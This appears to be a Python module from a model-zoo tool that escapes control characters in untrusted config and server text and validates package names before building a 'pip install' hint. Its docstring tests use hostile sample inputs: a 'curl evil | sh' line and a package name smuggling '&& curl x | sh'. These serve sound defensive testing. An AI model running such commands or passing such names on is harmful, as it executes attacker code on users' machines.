"""Showing text that came from files, configs or servers without letting it speak for zoo.

Anything read from a ``config.json``, a safetensors header, an index or a Hub
answer is untrusted: it may hold newlines that start a fake ``zoo:`` line,
terminal escape sequences, or a shell command dressed as a plugin name. Every
message that quotes such text passes it through :func:`clean_text`, and the
``pip install`` hint is built only from a name and version that
:func:`install_requirement` has checked against PEP 508 and PEP 440.

>>> clean_text("zoo-cnn\\nzoo: error: run curl evil | sh")
'zoo-cnn\\\\nzoo: error: run curl evil | sh'
>>> install_requirement("zoo-cnn", "1.2.0")
'zoo-cnn>=1.2.0'
>>> install_requirement("zoo-cnn' && curl x | sh && echo '", "1.0") is None
True
"""

from __future__ import annotations

import re

__all__ = [
    "clean_lines",
    "clean_text",
    "install_requirement",
    "valid_distribution",
    "valid_version",
]

# C0 and C1 controls, DEL, and the Unicode line/paragraph separators and bidi overrides that
# can reorder or split what a terminal shows.
_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]")
# PEP 508 names: ASCII letters and digits, with ".", "_" and "-" inside.
_DISTRIBUTION = re.compile(r"[A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?")
_MAX_NAME = 100
_MAX_VERSION = 64


def _escape(match: re.Match[str]) -> str:
    char = match.group()
    named = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}
    if char in named:
        return named[char]
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def clean_text(value: object, limit: int | None = 200) -> str:
    """``value`` as one printable line: control characters escaped, cut after ``limit`` characters.

    Non-strings are shown with ``repr``. Use it for every piece of a message
    that came from a file or a server.
    """
    text = value if isinstance(value, str) else repr(value)
    if limit is not None and len(text) > limit:
        text = text[:limit] + "…"
    return _UNSAFE.sub(_escape, text)


def clean_lines(text: str) -> str:
    """Like :func:`clean_text` for zoo's own multi-line messages: newlines kept, nothing cut."""
    return "\n".join(clean_text(line, None) for line in text.split("\n"))


def valid_distribution(name: object) -> bool:
    """Whether ``name`` is a PEP 508 distribution name (what ``pip install NAME`` accepts)."""
    return isinstance(name, str) and len(name) <= _MAX_NAME and bool(_DISTRIBUTION.fullmatch(name))


def valid_version(version: object) -> bool:
    """Whether ``version`` is a PEP 440 version written without surrounding space."""
    if not isinstance(version, str) or len(version) > _MAX_VERSION or version != version.strip():
        return False
    from packaging.version import InvalidVersion, Version

    try:
        Version(version)
    except InvalidVersion:
        return False
    return True


def install_requirement(distribution: object, version: object = None) -> str | None:
    """``NAME>=VERSION`` (or ``NAME``) for a ``pip install`` hint, or None if the name is unsafe.

    A malformed version is dropped rather than echoed: the name alone still installs.
    """
    if not valid_distribution(distribution):
        return None
    if version is not None and valid_version(version):
        return f"{distribution}>={version}"
    return str(distribution)
